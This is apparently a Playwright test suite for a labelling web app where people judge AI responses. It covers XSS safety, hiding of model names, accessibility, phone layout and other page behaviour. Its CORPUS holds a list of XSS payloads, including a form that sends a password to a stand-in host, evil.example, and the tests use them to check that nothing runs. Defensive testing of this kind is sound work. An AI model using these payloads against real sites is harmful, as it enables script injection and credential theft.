"""Pages in a real browser: hostile text, redacted names, accessibility, phones, and other pages than labelling."""

from __future__ import annotations

import json
import statistics
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
import tiny
from browsing import (
    ITEM_COUNTS,
    PASSWORD,
    PHONE,
    Account,
    LabellingRun,
    OpenPage,
    Screen,
    Server,
    button,
    dialog,
    is_reachable,
    make_run,
    make_task,
)

from assent.feedback.approval import Approval
from assent.feedback.comparison import Comparison
from assent.feedback.demonstration import Demonstration
from assent.labelling.queue import TaskQueue
from assent.labelling.settings import change_setting
from assent.records import Feedback
from assent.web.text import Redactor

if TYPE_CHECKING:
    from playwright.sync_api import Page

pytestmark = pytest.mark.browser


EVIL = "https://evil.example"


CORPUS = (
    "<script>alert(1)</script>",
    "<script>globalThis.pwned = 1</script>",
    "<ScRiPt>pwned=1</ScRiPt>",
    "<scr<script>ipt>pwned=1</scr</script>ipt>",
    f"<script src={EVIL}/x.js></script>",
    "<img src=x onerror=pwned=1>",
    '<img src=x onerror="pwned=1" />',
    f"<img src={EVIL}/pixel.png>",
    f"![alt]({EVIL}/pixel.png)",
    f"![alt][1]\n\n[1]: {EVIL}/pixel.png",
    "<svg onload=pwned=1>",
    "<svg><script>pwned=1</script></svg>",
    "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src onerror=pwned=1>",
    "<math><annotation-xml encoding=text/html><script>pwned=1</script>",
    f"<iframe src={EVIL}></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    f"<object data={EVIL}></object><embed src={EVIL}>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<style>@import '{EVIL}/x.css'; * {{ background: url({EVIL}/y.png) }}</style>",
    f'<div style="background: url({EVIL}/z.png)">styled</div>',
    f"<base href={EVIL}/>",
    f"<meta http-equiv=refresh content='0; url={EVIL}'>",
    f"<form action={EVIL}><input name=password><button>Go on</button></form>",
    "<body onload=pwned=1>",
    "<details open ontoggle=pwned=1>more</details>",
    "<input autofocus onfocus=pwned=1>",
    "<video><source onerror=pwned=1></video>",
    f"<video poster={EVIL}/p.png src={EVIL}/v.mp4></video>",
    "<template><script>pwned=1</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=pwned=1>">',
    "<!--><img src=x onerror=pwned=1>-->",
    "<![CDATA[<img src=x onerror=pwned=1>]]>",
    "<a href='javascript:pwned=1'>one</a>",
    "[two](javascript:pwned=1)",
    "[three](JaVaScRiPt:pwned=1)",
    "[four](java\tscript:pwned=1)",
    "[five](&#106;avascript:pwned=1)",
    "[six](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==)",
    "[seven](vbscript:pwned=1)",
    "<javascript:pwned=1>",
    "[eight]: javascript:pwned=1\n\n[eight]",
    '[nine](https://x.example "title" onmouseover=pwned=1 x="")',
    '[ten](https://x.example"onmouseover=pwned=1)',
    "`<img src=x onerror=pwned=1>`",
    "```html\n<script>pwned=1</script>\n```",
    '```"><img src=x onerror=pwned=1>\ncode\n```',
    "| a | b |\n|---|---|\n| <img src=x onerror=pwned=1> | <script>pwned=1</script> |",
    "</textarea><script>pwned=1</script>",
    "</script><script>pwned=1</script>",
    '"><script>pwned=1</script>',
    "' onmouseover=pwned=1 x='",
    "{{ 7 * 7 }} ${pwned=1} <%= pwned=1 %> {% raw %}",
    "&lt;script&gt;pwned=1&lt;/script&gt; &#60;img src=x onerror=pwned=1&#62;",
    "<img id=main><a id=items name=content href=x>clobbered</a>",
    "<x onclick=pwned=1 style=position:fixed;inset:0>cover</x>",
    "\u202egnp.exe\u202c and \u200bnothing\ufeff",
    "<img src=x\x00 onerror=pwned=1>",
)


def check_harmless(screen: Screen) -> None:
    """Click all links in user text; no script may run and no request may be sent."""
    page = screen.page
    elements = page.evaluate(
        """() => [
            ...document.querySelectorAll("script:not([src^='/static/']), iframe, object, embed, base, [http-equiv]"),
            ...document.querySelectorAll("main :is(script, img, style, link, video, audio, [action*=evil], [style])"),
        ].map((node) => node.outerHTML)"""
    )
    assert elements == []
    handlers = page.evaluate(
        """() => [...document.querySelectorAll("*")].flatMap((node) => [...node.attributes].filter((one) =>
            /^on/i.test(one.name) || /^(javascript|data|vbscript):/i.test(one.value)).map((one) => node.outerHTML))"""
    )
    assert handlers == []
    hrefs = page.eval_on_selector_all("main a[href]", "nodes => nodes.map((n) => [n.protocol, n.host, n.rel])")
    for protocol, host, rel in hrefs:
        assert protocol in ("http:", "https:")
        assert host == page.evaluate("() => location.host") or "noopener" in rel
    assert page.evaluate("() => globalThis.pwned") is None


def test_hostile_responses_run_nothing_on_the_label_page(open_page: OpenPage) -> None:
    groups = [CORPUS[i : i + 9] for i in range(0, len(CORPUS), 9)]
    turns = [[("user", text) for text in group] for group in groups]
    tasks = [
        make_task("ranking", *group, turns=conversation) for group, conversation in zip(groups, turns, strict=True)
    ]
    everything = "\n\n".join(CORPUS)
    raw = [make_task(kind, everything, turns=[("user", everything)]) for kind in ("critique", "correction", "rating")]
    roles = make_task("comparison", turns=[('" onclick=pwned=1 x="', "<b>role</b>"), ("text", "<i>plain</i>")])
    screen = open_page(*raw, roles, *tasks)
    for task in (*raw, roles, *tasks):
        assert screen.task == task.task
        for summary in screen.page.locator("#prompt summary").all():
            summary.click()
        screen.page.mouse.move(400, 300)
        check_harmless(screen)
        if task.task.kind == "correction":
            expected_text = Redactor(everything).text.replace("\r\n", "\n")
            assert screen.page.locator("#control textarea").input_value() == expected_text
            screen.page.locator("#control textarea").press("Control+End")
            screen.page.keyboard.type("!")
            check_harmless(screen)
        elif task.task.kind == "critique":
            screen.page.locator("#control textarea").fill("Dangerous.")
        elif task.task.kind == "rating":
            screen.press("1", "1", "1")
        elif task.task.kind == "comparison":
            screen.press("4")
        else:
            screen.press("1", "0")
        screen.submit(by="Control+Enter")
    screen.stored(len(tasks) + 4)


def test_label_page_shows_invisible_characters(open_page: OpenPage) -> None:
    screen = open_page(make_task("approval", "safe\u202egnp.exe\u202c and \u200bnothing\u2066x\u2069"))
    text = screen.page.locator("#items").inner_text()
    for number in ("202E", "202C", "200B", "2066", "2069"):
        assert f"U+{number}" in text
    assert not {"\u202e", "\u202c", "\u200b", "\u2066", "\u2069"} & set(text)


def test_hostile_text_runs_nothing_on_manager_pages(open_page: OpenPage, live_server: Server) -> None:
    everything = "\n\n".join(CORPUS)
    bad = '"><img src=x onerror=pwned=1>'
    run = make_run(
        live_server.root, make_task("comparison", everything, everything + "!", turns=[("user", everything)])
    )
    (task,) = (task.task for task in run.tasks)
    for annotator, key, note in (("a" + bad, 0, everything), ("<script>pwned=1</script>", 1, bad)):
        run.store.add_feedback([Feedback(task.id, annotator, Comparison(task.items[key]), "2026-11-20", comment=note)])
    for name, value in (("guidelines", everything), ("flags", [bad, "</script>"]), ("axes", [bad])):
        change_setting(run.store, name, value, bad, "2026-11-20")
    (run.folder / "metrics.jsonl").write_text(json.dumps({"stage": bad, "step": 1, bad: 0.5}) + "\n")
    screen = open_page(run=run, role="owner", path="")
    paths = ["/label", "/guidelines", "/progress", "/prompts", f"/prompts/{run.tasks[0].prompt.id}", "/review"]
    paths += ["/disagreements", "/admin", f"/prompts?text={bad}", f"/nothing{bad}", "//login?next=javascript:pwned=1"]
    for path in [*paths, "/chat", "//"]:
        screen.go(path)
        check_harmless(screen)
    screen.go("//login?next=javascript:pwned=1")
    screen.page.get_by_label("Name").fill(screen.user.name)
    screen.page.get_by_label("Password").fill(PASSWORD)
    screen.press("Enter")
    screen.page.wait_for_url(live_server.url + "/")


def test_trusted_types_policy_is_enforced(open_page: OpenPage) -> None:
    screen = open_page(make_task("approval"))
    assert (
        "require-trusted-types-for 'script'"
        in (screen.page.request.get(screen.page.url).headers["content-security-policy"])
    )
    tries = """() => [
        () => (document.body.innerHTML += "<b>x</b>"),
        () => document.write("<b>x</b>"),
        () => trustedTypes.createPolicy("mine", { createHTML: (text) => text }),
        () => trustedTypes.createPolicy("assent", { createHTML: (text) => text }),
        () => (document.createElement("script").text = "1"),
    ].map((one) => { try { one(); return "done"; } catch (error) { return error.name; } })"""
    assert screen.page.evaluate(tries) == ["TypeError"] * 5
    screen.page.evaluate("() => (pageErrors.length = 0)")
    screen.errors.clear()  # the errors are expected


MODEL = "acme/Marmoset-7B-Instruct"


NAMED = ("As GPT-4 I say so.", "I am Claude, made by Anthropic.", f"{MODEL} says seven.", "Marmoset-7B-Instruct here.")


def test_label_page_redacts_model_names_in_comparisons(open_page: OpenPage, live_server: Server) -> None:
    tasks = [
        make_task("ranking", *NAMED),
        make_task("comparison", *NAMED[:2]),
        make_task("rating", NAMED[2]),
        make_task("approval", NAMED[3]),
    ]
    check_no_model_name(open_page, make_run(live_server.root, *tasks, model=MODEL), ["1 2 3 0", "4", "1 1 1", "j"])


@pytest.mark.parametrize("kind", ["critique", "correction"])
def test_label_page_redacts_model_names_in_written_kinds(open_page: OpenPage, live_server: Server, kind: str) -> None:
    check_no_model_name(open_page, make_run(live_server.root, make_task(kind, " ".join(NAMED)), model=MODEL), [""])


def test_label_page_redacts_model_names_in_earlier_turns(open_page: OpenPage, live_server: Server) -> None:
    turns = [("user", "Who are you?"), ("assistant", NAMED[1]), ("user", "Are you sure?")]
    check_no_model_name(open_page, make_run(live_server.root, make_task("comparison", turns=turns), model=MODEL), ["4"])


def check_no_model_name(open_page: OpenPage, run: LabellingRun, keys: list[str]) -> None:
    """Judge all tasks; no reply to the browser may contain a model name."""
    change_setting(run.store, "names", ["GPT-4", "Claude", "Anthropic"], "owner", "2026-11-20")
    screen = open_page(run=run, path="")
    responses: list[Any] = []
    screen.page.on("response", lambda response: responses.append(response))  # noqa: PLW0108
    screen.go("/label")
    for some in keys:
        if not some:
            screen.page.locator("#control textarea").fill("Well.")
        screen.submit(*some.split(), by="Control+Enter")
    screen.stored(len(keys))
    texts = [response.text() for response in responses if "/api/" in response.url or "/label" in response.url]
    screen.go("/guidelines").go("//")
    texts.append(screen.page.content())
    for name in ("GPT-4", "Claude", "Anthropic", "Marmoset", "sft"):
        assert not [text for text in texts if name.lower() in text.lower()], name


def run_axe(page: Page) -> list[str]:
    """Return the accessibility violations that axe reports for a page."""
    from axe_playwright_python.sync_playwright import Axe  # type: ignore[import-untyped]

    violations = Axe().run(page).response["violations"]
    return [
        f"{violation['id']}: {node['html'][:150]} ({node['failureSummary'][:200]})"
        for violation in violations
        for node in violation["nodes"]
    ]


KINDS = ("comparison", "ranking", "rating", "approval", "critique", "correction", "demonstration")


@pytest.fixture(scope="module")
def used_run(live_server: Server) -> LabellingRun:
    """Return a run with enough content to fill every page."""
    turns = [("system", "Be brief."), ("user", "What is a prime?"), ("assistant", "A *number*."), ("user", "Is 7 one?")]
    text = (
        "Yes.\n\n* It has **two** divisors\n\n> `7 = 7 * 1`, [so](https://example.org)\n\n| a | b |\n|--|--|\n| 1 | 2 |"
    )
    tasks = [make_task(kind, turns=turns) for kind in KINDS]
    run = make_run(live_server.root, *tasks, make_task("comparison", text, "No."))
    task = run.tasks[-1].task
    for annotator, item in (("ann", 0), ("bob", 1)):
        run.store.add_feedback([Feedback(task.id, annotator, Comparison(task.items[item]), "2026-11-20", 3.0)])
    lines = ({"stage": "sft", "step": step, "seconds": step, "loss": 2 / step} for step in range(1, 9))
    (run.folder / "metrics.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines))
    return run


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_no_violation_on_any_page(
    open_page: OpenPage, live_server: Server, used_run: LabellingRun, scheme: str
) -> None:
    screen = open_page(run=used_run, role="owner", path="", color_scheme=scheme)
    paths = ["/guidelines", "/progress", "/prompts", f"/prompts/{used_run.tasks[0].prompt.id}", "/review"]
    paths += [
        "/judgements",
        f"/judgements/{used_run.feedback()[0].id}",
        "/judgements?text=nothing",
        "/skipped",
        "//account",
    ]
    paths += ["/disagreements", "/admin", "/chat", "/nothing", "//", "//login", live_server.invite()]
    live_server.accounts.credentials.issue_token(live_server.accounts.get(screen.user.id), "a script")
    skipped = used_run.tasks[0].task
    TaskQueue(used_run.store).assignments.assign("somebody", skipped)
    TaskQueue(used_run.store).assignments.skip("somebody", skipped.id)
    violations = []
    for path in paths:
        screen.go(path)
        violations += [f"{path} {violation}" for violation in run_axe(screen.page)]
    assert violations == []


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_no_violation_on_the_label_page(open_page: OpenPage, live_server: Server, scheme: str) -> None:
    turns = [("user", "What is a prime?"), ("assistant", "A *number*."), ("user", "Is 7 one?")]
    text = "Yes.\n\n* It has **two** divisors\n\n> `7 = 7 * 1`, see [this](https://example.org) " + "or not " * 300
    screen = open_page(
        *(make_task(kind, *[text + "!" * i for i in range(ITEM_COUNTS.get(kind, 1))], turns=turns) for kind in KINDS),
        user=live_server.new_user(), color_scheme=scheme,
    )  # fmt: skip
    violations = []
    for kind in KINDS:
        assert screen.task and screen.task.kind == kind
        if kind in ("critique", "correction", "demonstration"):
            screen.page.locator("#control textarea").fill("Half a thought")
        else:
            screen.press(*{"comparison": "2", "ranking": "1324", "rating": "765", "approval": "j"}[kind])
        screen.press("Escape", "f", "1")
        violations += [f"{kind} {violation}" for violation in run_axe(screen.page)]
        screen.submit(by="Control+Enter")
    violations += [f"empty {one}" for one in run_axe(screen.page)]
    before = screen.instruction
    screen.press("u")
    screen.wait("() => document.activeElement.tagName === 'TEXTAREA'")
    for key, name in (("g", "Guidelines"), ("?", "Keyboard shortcuts")):
        screen.press("Escape", key)
        dialog(screen, name).wait_for()
        violations += [f"{name} {one}" for one in run_axe(screen.page)]
        screen.press("Escape")
    live_server.accounts.credentials.revoke(screen.user.session)
    screen.page.locator("#control textarea").fill(f"A whole one, {before}")
    screen.press("Control+Enter")
    dialog(screen, "Sign in again").wait_for()
    violations += [f"sign in {one}" for one in run_axe(screen.page)]
    assert violations == []


def check_fits(page: Page) -> None:
    """Fail if an element extends beyond the right edge, since users would have to scroll sideways."""
    wide = page.evaluate(
        """() => [document.scrollingElement, ...document.querySelectorAll("body, main, #controls")]
            .filter((node) => node && node.scrollWidth > node.clientWidth + 1).map((node) => node.tagName)"""
    )
    assert wide == []


TAPS = {
    "comparison": ["A better"],
    "ranking": ["Response 2", "Response 1", "the rest are bad"],
    "rating": ["helpful: 7 of 7", "true: 6 of 7", "harmless: 5 of 7"],
    "approval": ["Approve"],
}


@pytest.mark.parametrize("kind", KINDS)
def test_phone_can_tap_every_control(open_page: OpenPage, kind: str) -> None:
    texts = [f"Answer {i}. " + "And a few more words. " * 80 for i in range(ITEM_COUNTS.get(kind, 1))]
    screen = open_page(make_task(kind, *texts), make_task("approval"), **PHONE)
    check_fits(screen.page)
    out = [one.inner_text() for one in controls(screen) if not is_reachable(one)]
    assert out == []
    for name in TAPS.get(kind, ()):
        screen.page.locator("#controls").get_by_role("button", name=name, exact=False).first.tap()
    if kind not in TAPS:
        screen.page.locator("#control textarea").tap()
        screen.page.locator("#control textarea").fill("As one would say it.")
    screen.page.locator("#flags").get_by_role("button", name="Harm").tap()
    check_fits(screen.page)
    before = screen.instruction
    screen.wait_until_ready()
    button(screen, "Submit").tap()
    screen.wait_for_next_task(before)
    (event,) = screen.stored(1)
    assert event.flags == ("harm",)
    button(screen, "Undo").tap()
    screen.wait_until(lambda: screen.instruction == screen.run.tasks[0].task.instruction)
    button(screen, "Guidelines").tap()
    dialog(screen, "Guidelines").get_by_role("button", name="Close").tap()
    before = screen.instruction
    button(screen, "Skip").tap()
    if kind not in TAPS:  # something was written
        dialog(screen, "Skip this task?").get_by_role("button", name="Skip").tap()
    screen.wait_for_next_task(before)


def controls(screen: Screen) -> list[Any]:
    elements = screen.page.locator("#controls").locator("button:visible, input:visible, textarea:visible")
    return list(elements.all())


@pytest.mark.parametrize("kind", KINDS)
def test_zoomed_label_page_reaches_every_control(open_page: OpenPage, kind: str) -> None:
    texts = [f"Answer {i}. " + "And more words. " * 80 for i in range(ITEM_COUNTS.get(kind, 1))]
    options = {"viewport": {"width": 640, "height": 400}, "device_scale_factor": 2}
    screen = open_page(make_task(kind, *texts), **options)
    check_fits(screen.page)
    for one in [*controls(screen), *screen.page.locator("header button:visible, header a:visible").all()]:
        if one.evaluate("(node) => !node.classList.contains('skip-link')"):
            one.scroll_into_view_if_needed()
            assert is_reachable(one, corner=True), one.evaluate("(node) => node.outerHTML")
    beyond = screen.page.evaluate(
        """() => { const main = document.querySelector("main"); main.scrollTop = main.scrollHeight;
            const last = document.querySelector("#items").getBoundingClientRect().bottom;
            return last - main.getBoundingClientRect().bottom; }"""
    )
    assert beyond <= 0
    height = screen.page.evaluate("() => document.querySelector('main').clientHeight")
    assert height >= 100, f"{height} of 400 pixels are left for what is to be read"


def test_keyboard_focus_is_visible(open_page: OpenPage) -> None:
    screen = open_page(make_task("comparison", turns=[("user", "One."), ("assistant", "Two."), ("user", "Three.")]))
    focused = set()
    for _ in range(40):
        screen.press("Tab")
        name, style, width = screen.page.evaluate(
            """() => { const node = document.activeElement, style = getComputedStyle(node);
                return [node.outerHTML.slice(0, 80), style.outlineStyle, parseFloat(style.outlineWidth)]; }"""
        )
        if not name.startswith("<body"):
            focused.add(name)
            assert style != "none" and width >= 2, name
    assert len(focused) >= 25  # eight choices, five flags, the reason, five actions, six links and buttons at the top


def test_saved_state_is_announced_to_screen_readers(open_page: OpenPage) -> None:
    screen = open_page(make_task("approval"), make_task("approval"))
    status = screen.page.get_by_role("status")
    assert status.get_attribute("aria-live") == "polite"
    screen.submit("j").stored(1)
    assert "saved" in status.inner_text()
    screen.context.set_offline(True)
    screen.submit("k")
    screen.wait_until(lambda: "offline" in status.inner_text() and "1 waiting" in status.inner_text())
    assert screen.page.get_by_role("alert").count() <= 1


@pytest.mark.slow
def test_next_task_appears_quickly(
    open_page: OpenPage, record_testsuite_property: Callable[[str, object], None]
) -> None:
    text = "Some *words*, in a paragraph of an ordinary length, as models write them. " * 12
    screen = open_page(*(make_task("comparison", f"{i} {text}", f"{text} {i}") for i in range(22)))
    for _ in range(21):
        screen.submit("2")
    screen.stored(21)
    took = screen.page.evaluate("() => performance.getEntriesByName('next').map((one) => one.duration)")
    median = statistics.median(took[-20:])
    record_testsuite_property("milliseconds to the next item", round(median, 1))
    print(f"the next item is there after {median:.0f} ms (median of 20; slowest {max(took):.0f})")
    assert len(took) >= 20 and median < 300  # 100 on an idle machine


def test_texts_have_the_direction_of_their_language(open_page: OpenPage) -> None:
    arabic = "الجواب هو 42 (انظر Wikipedia). هل تريد المزيد؟"
    mixed = f"An English line.\n\n{arabic}"
    screen = open_page(
        make_task("comparison", arabic, mixed, turns=[("user", arabic)]), make_task("correction", arabic)
    )
    directions = """(names) => [...document.querySelectorAll(names)].map((node) => getComputedStyle(node).direction)"""
    left = next(place for place, item in enumerate(screen.display_order) if item == screen.run.tasks[0].responses[0].id)
    directed = screen.page.evaluate(directions, "#prompt .turn, #items .text")
    assert directed[0] == "rtl" and directed[1 + left] == "rtl" and directed[2 - left] == "ltr"
    order = """(place) => {
        const text = document.querySelectorAll("#items .text")[place].querySelector("p:last-child").firstChild;
        const range = document.createRange();
        const left = (word) => {
            const start = text.data.indexOf(word);
            range.setStart(text, start), range.setEnd(text, start + word.length);
            return range.getBoundingClientRect().left;
        };
        return left("الجواب") > left("Wikipedia") && left("Wikipedia") > left("تريد");
    }"""
    for place in (0, 1):
        assert screen.page.evaluate(order, place)  # right to left, in the English response too
    screen.submit("1")
    assert screen.page.evaluate(directions, "#control textarea, #items .text") == ["rtl", "rtl"]


def test_source_key_shows_the_source_text(open_page: OpenPage) -> None:
    source = "Use `__init__`, **not** &lt;b&gt;:\n\n    indented\n\nand \\(x_1\\)."
    screen = open_page(make_task("comparison", source, "A plain one."), make_task("comparison", "**Bold.**", "Not."))
    text = screen.page.locator(f"[data-item='{screen.run.tasks[0].responses[0].id}'] .text")
    assert text.locator("strong").count() == 1 and "\\(x_1\\)" in text.inner_text()
    screen.press("v")
    assert text.text_content() == source
    screen.submit("1")
    texts = screen.page.locator("#items .text").all_inner_texts()
    assert "**Bold.**" in texts  # it stays for the next ones
    screen.press("v")
    assert "Bold." in screen.page.locator("#items .text").all_inner_texts()


def test_sent_back_task_comes_first_with_the_remark(open_page: OpenPage, live_server: Server) -> None:
    screen = open_page(make_task("demonstration"), make_task("approval"))
    screen.page.keyboard.type("Tides are made by fish.")
    screen.submit(by="Control+Enter")
    (event,) = screen.stored(1)
    reviewer = open_page(run=screen.run, role="reviewer", path=f"/judgements/{event.id}")
    reviewer.page.get_by_label("check again").fill("Fish? Look it up.")
    reviewer.page.get_by_role("button", name="Send back").click()
    reviewer.page.get_by_text("Sent back").wait_for()
    screen.reload()
    assert screen.task == screen.run.tasks[0].task and "Fish? Look it up." in screen.notice
    text = screen.page.locator("#control textarea")
    assert text.input_value() == "Tides are made by fish."
    text.fill("Tides are made by the moon.")
    screen.submit(by="Control+Enter")
    first, second = screen.stored(2)
    assert second.judgement == Demonstration("Tides are made by the moon.") and second.supersedes == first.id


def test_help_and_guidelines_open_without_a_task(open_page: OpenPage) -> None:
    screen = open_page()
    for key, name in (("g", "Guidelines"), ("?", "Keyboard shortcuts")):
        screen.press(key)
        dialog(screen, name).get_by_role("button", name="Close").click()


def test_empty_page_says_that_others_hold_the_tasks(open_page: OpenPage, live_server: Server) -> None:
    screen = open_page(make_task("approval"), user=live_server.new_user())
    second_screen = open_page(run=screen.run, user=live_server.new_user())
    assert "Other labellers hold the remaining tasks" in second_screen.page.locator("#empty").inner_text()
    screen.page.get_by_role("button", name="Sign out").click()  # signing out releases assigned tasks at once
    second_screen.wait_until(lambda: second_screen.task == screen.run.tasks[0].task)


@pytest.mark.slow
def test_chat_sends_approvals_after_sign_in_in_another_tab(
    open_page: OpenPage, live_server: Server, tmp_path: Path
) -> None:
    run = make_run(live_server.root, make_task("approval"), model=str(tiny.make(tmp_path / "model")))
    screen = open_page(run=run, path="/chat", user=live_server.new_user())
    screen.page.locator("#message").fill("Tom had a red ball.")
    screen.page.keyboard.press("Enter")
    screen.page.locator(".thumbs button").first.wait_for()
    before = len(run.feedback())
    live_server.accounts.credentials.revoke(screen.user.session)
    screen.page.locator(".thumbs button").first.click()
    dialog(screen, "Sign in again").wait_for()
    user = live_server.accounts.get(screen.user.id)
    screen.sign_in_as(Account(user.id, user.name, live_server.accounts.credentials.open_session(user)))
    screen.wait_until(lambda: len(run.feedback()) == before + 1)
    dialog(screen, "Sign in again").wait_for(state="hidden")
    screen.reload()
    assert screen.page.locator(".thumbs button[aria-pressed=true]").count() == 1  # thumbs outlive a reload
    screen.page.locator(".thumbs button").nth(1).click()
    screen.wait_until(lambda: len(run.feedback()) == before + 2)
    first, second = run.feedback()[before:]
    assert second.supersedes == first.id and (first.judgement, second.judgement) == (Approval(True), Approval(False))
